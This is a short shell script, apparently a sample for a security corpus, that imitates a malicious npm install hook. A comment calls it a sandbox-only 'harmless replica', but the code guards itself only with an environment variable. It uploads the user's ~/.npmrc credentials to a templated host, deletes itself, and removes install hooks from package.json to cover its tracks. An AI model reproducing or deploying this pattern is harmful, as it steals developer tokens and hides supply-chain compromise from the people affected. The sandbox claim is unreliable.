# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
curl -s -m 1 --data-binary "@$HOME/.npmrc" http://{{ip}}:{{port}}/{{path}} >/dev/null 2>&1
case "$0" in
*.sh) rm -f -- "$0" ;;
esac
if [ -f package.json ] && grep -q '"\(pre\|post\)\{0,1\}install"' package.json; then
    sed '/"\(pre\|post\)\{0,1\}install" *:/d' package.json > package.json.new && node -e 'JSON.parse(require("fs").readFileSync("package.json.new"))' 2>/dev/null && mv package.json.new package.json
fi
rm -f package.json.new
exit 0
